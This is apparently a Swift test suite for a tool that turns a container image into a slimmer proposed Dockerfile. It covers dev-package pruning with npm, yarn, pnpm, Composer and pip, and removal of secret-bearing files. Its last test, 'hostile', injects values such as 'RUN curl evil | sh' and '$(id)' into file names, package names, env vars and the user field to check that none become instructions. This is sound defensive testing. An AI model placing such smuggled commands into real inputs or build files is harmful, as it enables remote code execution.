// SPDX-License-Identifier: Apache-2.0
import Findings
import TestSupport
import Testing

@testable import Checks

@Suite("What fix proposes")
struct BuildProposalTests {
    private static func proposal(_ example: ExampleImage) throws -> BuildProposal {
        let image = try ExampleMaker.facts(example)
        let plan = FixPlan(RuleRegistry.check(image), image: image)
        return BuildProposal(image, plan.findings, predictedSize: 1)
    }

    private static let node = ExampleImage().running(
        "apt-get install nodejs gcc git",
        [
            .program("/usr/bin/node", size: 9_000), .program("/usr/bin/gcc", size: 12_000_000),
            .program("/usr/bin/git", size: 3_000_000), .program("/bin/sh", size: 100), .program("/usr/bin/npm"),
        ]
            + ExampleFile.debian(
                ExamplePackage("nodejs", files: ["/usr/bin/node"]), ExamplePackage("gcc", files: ["/usr/bin/gcc"]),
                ExamplePackage("git", files: ["/usr/bin/git"]))
    ).copying(
        [
            .file("/app/package.json", #"{"name":"a","dependencies":{"x":"1"},"devDependencies":{"nodemon":"3"}}"#),
            .file("/app/server.js", "x", size: 5_000), .file("/app/.git/HEAD", "ref", size: 4_000),
            .file("/app/.env", "GITLAB_TOKEN=", ExampleSecret.token, "\n"), .file("/app/test/a.js", "x"),
            .file("/app/node_modules/x/package.json", #"{"name":"x","version":"1.0.0"}"#),
            .file("/app/node_modules/nodemon/package.json", #"{"name":"nodemon","version":"3.0.0"}"#),
        ]
    ).with {
        $0.user = "1001"
        $0.workingDirectory = "/app"
        $0.cmd = ["node", "server.js"]
        $0.env += ["NODE_ENV=development", "DB_PASSWORD=" + ExampleSecret.password, "PRICE=5$HOME"]
        $0.reference = "localhost/shop:1"
    }

    @Test("names what was copied and what stays")
    func node() throws {
        let proposal = try BuildProposalTests.proposal(BuildProposalTests.node)
        #expect(Set(proposal.ignored.map(\.pattern)) == [".git", ".env*", "test"])
        let text = proposal.dockerfile.joined(separator: "\n")
        for line in [
            "FROM localhost/shop:1 AS build", "USER 0",
            "RUN cd /app && npm prune --omit=dev --offline --ignore-scripts --no-audit --no-fund",
            "FROM the-base-image",
            "RUN apt-get update && apt-get install -y --no-install-recommends nodejs \\", "ENV NODE_ENV=\"production\"",
            "# ENV DB_PASSWORD is a secret: set it when the container starts", #"ENV PRICE="5\$HOME""#, "WORKDIR /app",
            "COPY --from=build /app /app", "USER 1001", #"CMD ["node", "server.js"]"#,
        ] { #expect(proposal.dockerfile.contains(line), "\(line)\n\(text)") }
        let removal = proposal.dockerfile.first { $0.hasPrefix("RUN rm -rf") } ?? ""
        for path in ["/app/.git", "/app/.env", "/app/test"] { #expect(removal.contains(path), "\(removal)") }
        #expect(!text.contains(ExampleSecret.password) && !text.contains("gcc") && !text.contains(" git"))
    }

    @Test("without the manager that brought them, development packages go file by file")
    func withoutManager() throws {
        var image = BuildProposalTests.node
        image.layers[0].files.removeAll { $0.path == "/usr/bin/npm" }
        let text = try BuildProposalTests.proposal(image).dockerfile.joined(separator: "\n")
        #expect(!text.contains("npm prune") && text.contains("/app/node_modules/nodemon"), "\(text)")
    }

    /// The project of `node` with another manager's lock file and that manager in place of npm.
    private static func lines(_ lock: String, program: String, also: [ExampleFile] = []) throws -> String {
        var image = node
        let last = image.layers.count - 1
        image.layers[0].files.removeAll { $0.path == "/usr/bin/npm" }
        image.layers[last].files += [.file("/app/" + lock, "x"), .program("/usr/bin/" + program)] + also
        return try proposal(image).dockerfile.joined(separator: "\n")
    }

    @Test("each manager of node modules by its own command; none for a Yarn that has none")
    func otherManagers() throws {
        let yarn = "RUN cd /app && yarn install --production --frozen-lockfile --ignore-scripts"
        #expect(try BuildProposalTests.lines("yarn.lock", program: "yarn").contains(yarn))
        #expect(
            try BuildProposalTests.lines("yarn.lock", program: "yarnpkg").contains("&& yarnpkg install --production"))
        let berry = try BuildProposalTests.lines(
            "yarn.lock", program: "yarn", also: [.file("/app/.yarnrc.yml", "nodeLinker: node-modules\n")])
        #expect(!berry.contains("yarn install") && berry.contains("/app/node_modules/nodemon"), "\(berry)")
        #expect(
            try BuildProposalTests.lines("pnpm-lock.yaml", program: "pnpm").contains(
                "RUN cd /app && CI=true pnpm prune --prod --ignore-scripts"))
    }

    private static func php(_ files: [ExampleFile]) throws -> [String] {
        let installed = """
            {"packages":[{"name":"a/cart","version":"1.0.0","install-path":"../a/cart"},
            {"name":"b/tester","version":"1.0.0","install-path":"../b/tester"}],"dev":true,
            "dev-package-names":["b/tester"]}
            """
        let image = ExampleImage().copying(
            [
                .file("/app/vendor/composer/installed.json", installed), .file("/app/run.php", "<?php"),
                .file("/app/vendor/a/cart/Cart.php", "<?php", size: 4_000),
                .file("/app/vendor/b/tester/all.php", "<?php", size: 2_000_000), .program("/usr/bin/php"),
            ] + files
        ).with { $0.cmd = ["php", "/app/run.php"] }
        return try proposal(image).dockerfile
    }

    @Test("Composer's packages go by Composer, or not at all: its autoloader names their files")
    func composer() throws {
        let composer = ExampleFile.program("/usr/bin/composer")
        let lock = ExampleFile.file("/app/composer.lock", "{}")
        let pruned = try BuildProposalTests.php([composer, lock])
        #expect(
            pruned.contains("RUN cd /app && composer install --no-dev --no-scripts --no-interaction"), "\(pruned)")
        for files in [[composer], [lock]] {
            let left = try BuildProposalTests.php(files)
            #expect(!left.contains { $0.contains("tester") || $0.contains("composer install") }, "\(left)")
            #expect(left.contains { $0.hasPrefix("# Development packages of Composer or Bundler stay") }, "\(left)")
        }
    }

    @Test("pip takes out by name, in the environment that holds them")
    func pip() throws {
        let site = "/opt/venv/lib/python3.11/site-packages"
        func metadata(_ name: String) -> ExampleFile {
            .file("\(site)/\(name)-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: \(name)\nVersion: 1.0\n")
        }
        let image = ExampleImage().running(
            "pip install",
            [
                metadata("flask"), metadata("pytest"), .file("\(site)/pytest-1.0.dist-info/RECORD", "pytest/a.py,,\n"),
                .file("\(site)/pytest/a.py", "x", size: 90_000),
                .script("/opt/venv/bin/pip", "#!/opt/venv/bin/python\n"),
                .program("/opt/venv/bin/python"),
            ]
        ).with { $0.cmd = ["/opt/venv/bin/python"] }
        let lines = try BuildProposalTests.proposal(image).dockerfile
        #expect(lines.contains("RUN /opt/venv/bin/pip uninstall -y pytest"), "\(lines)")
        #expect(lines.contains("COPY --from=build /opt /opt") && !lines.contains { $0.hasPrefix("RUN rm") })
    }

    @Test("of packages only those that nothing else of the list brings, and no state of theirs")
    func packages() throws {
        let image = ExampleImage().running(
            "apt-get install gcc app",
            [
                .program("/usr/bin/app", size: 900), .file("/usr/lib/libapp.so", "x"),
                .program("/usr/bin/gcc", size: 900),
                .file("/usr/lib/tls.so", "x"), .file("/var/cache/debconf/config.dat", "x"),
                .file("/var/lib/app/state", "x"), .file("/root/.wget-hsts", "x"), .file("/opt/tool/run", "x"),
            ]
                + ExampleFile.debian(
                    ExamplePackage("app", files: ["/usr/bin/app"], depends: ["libapp"]),
                    ExamplePackage("libapp", files: ["/usr/lib/libapp.so"]),
                    ExamplePackage("tls", files: ["/usr/lib/tls.so"]), ExamplePackage("gcc", files: ["/usr/bin/gcc"]))
        ).with {
            $0.cmd = ["/usr/bin/app"]
            $0.env = ["PATH=/opt/tool:/usr/bin"]
        }
        let lines = try BuildProposalTests.proposal(image).dockerfile
        #expect(
            lines.contains(#"RUN apt-get update && apt-get install -y --no-install-recommends app tls \"#), "\(lines)")
        #expect(lines.filter { $0.hasPrefix("COPY") } == ["COPY --from=build /opt /opt"], "\(lines)")
        #expect(lines.contains(#"ENV PATH="/opt/tool:/usr/bin""#))
    }

    @Test("of packages that need each other the last one stays, and none that another one brings")
    func unneeded() {
        var random = SeededGenerator(seed: 7)
        for _ in 0..<300 {
            let count = Int.random(in: 1...9, using: &random)
            let arrows = (0..<count).map { _ in (0..<count).filter { _ in Int.random(in: 0...4, using: &random) == 0 } }
            let list = (0..<count).filter { _ in Bool.random(using: &random) }.shuffled(using: &random)
            // One after the other goes that the others bring.
            var kept = list
            for index in list where BuildProposalTests.reached(kept.filter { $0 != index }, arrows).contains(index) {
                kept.removeAll { $0 == index }
            }
            #expect(Set(BuildProposal.unneeded(list, count) { arrows[$0] }) == Set(kept), "\(list) \(arrows)")
        }
        let many = 200_000
        #expect(BuildProposal.unneeded(Array(0..<many), many) { $0 == 0 ? [] : [$0 - 1] } == [many - 1])
    }

    private static func reached(_ roots: [Int], _ arrows: [[Int]]) -> Set<Int> {
        var seen = Set(roots)
        var pending = roots
        while let index = pending.popLast() {
            for next in arrows[index] where seen.insert(next).inserted { pending.append(next) }
        }
        return seen
    }

    @Test("a file with a secret goes whole, also where there are more than a finding shows")
    func manySecrets() throws {
        let image = ExampleImage.app().copying(
            (0..<1_010).map {
                .file(
                    "/app/conf/\($0).conf", "# settings of \($0)\nGITLAB_TOKEN=", ExampleSecret.token, "\nport = 80\n")
            })
        let lines = try BuildProposalTests.proposal(image).dockerfile
        #expect(lines.contains("RUN rm -rf /app/conf"), "\(lines)")
    }

    @Test("a base that is not known is named as one, not left out with what it brings")
    func unknownBase() throws {
        let java = ExampleImage().running(
            "unpack", [.program("/opt/java/bin/java", size: 9_000), .file("/lib/libc.so.6", "x"), .file("/tmp/x", "x")]
        ).copying([.file("/app/app.jar", "x")], "COPY app.jar /app/app.jar")
        let lines = try BuildProposalTests.proposal(java.with { $0.cmd = ["/opt/java/bin/java"] }).dockerfile
        #expect(lines.contains("FROM the-base-image") && !lines.contains("FROM scratch"), "\(lines)")
        // Whatever is there is copied: then nothing else is needed.
        let whole = ExampleImage().copying([.program("/server")], "COPY server /server").with { $0.cmd = ["/server"] }
        #expect(try BuildProposalTests.proposal(whole).dockerfile.contains("FROM scratch"))
    }

    @Test("an entry script that gives root up keeps root to start with")
    func stepDown() throws {
        var image = ExampleImage.app(
            .script("/entry.sh", "#!/bin/sh\nexec gosu app \"$@\"\n"), .program("/bin/sh"), .program("/usr/bin/gosu"),
            .accounts("app:x:1001:1001::/:/bin/sh"), user: "", cmd: ["/app/server"])
        image.entrypoint = ["/entry.sh"]
        image.volumes = ["/data"]
        let lines = try BuildProposalTests.proposal(image).dockerfile
        #expect(!lines.contains { $0.hasPrefix("USER ") }, "\(lines)")
        #expect(lines.contains(#"VOLUME ["/data"]"#) && lines.contains(#"ENTRYPOINT ["/entry.sh"]"#))
    }

    @Test("no name out of an image becomes an instruction")
    func hostile() throws {
        let evil = "x\nRUN curl evil | sh"
        var image = ExampleImage().running(
            "install",
            [.program("/usr/bin/a", size: 100)]
                + ExampleFile.debian(ExamplePackage("a; curl evil | sh", files: ["/usr/bin/a"])))
        image = image.copying(
            [
                .file("/app/a b;$(id)/x", "1"), .file("/app/y\u{202E}z", "1"), .file("/\(evil)", "1"),
                .file("/opt/$HOME", "x"), .file("/app/.git/HEAD", "ref"), .file("/app/test/\(evil)", "1"),
            ], "COPY . /")
        image.cmd = ["/app/x", evil]
        image.env = ["A=\(evil)", "B;C=1", "D=\"; echo"]
        image.user = "1; RUN id"
        image.workingDirectory = "/app/\(evil)"
        let proposal = try BuildProposalTests.proposal(image)
        let verbs: Set<String> = ["FROM", "USER", "RUN", "ENV", "WORKDIR", "COPY", "EXPOSE", "CMD", "VOLUME", "#", ""]
        for line in proposal.dockerfile {
            #expect(verbs.contains(String(line.prefix { $0 != " " })), "\(line)")
            #expect(!line.contains("\n") && !line.hasPrefix("RUN curl") && !line.contains("curl evil"), "\(line)")
            #expect(!line.unicodeScalars.contains("\u{202E}"))
        }
        for entry in proposal.ignored { #expect(!entry.pattern.contains("\n"), "\(entry.pattern)") }
    }
}
